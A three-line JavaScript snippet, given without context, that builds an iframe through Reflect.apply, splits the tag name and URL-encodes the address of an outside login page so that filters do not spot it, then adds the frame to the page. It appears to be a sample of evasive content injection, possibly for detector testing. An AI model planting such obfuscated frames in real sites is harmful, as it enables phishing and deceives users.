var fr = Reflect.apply(document.createElement, document, ["ifr".concat("ame")]);
fr.src = decodeURIComponent("https%3A%2F%2Flogin.vendor-chat.example%2F");
document.body.appendChild(fr);
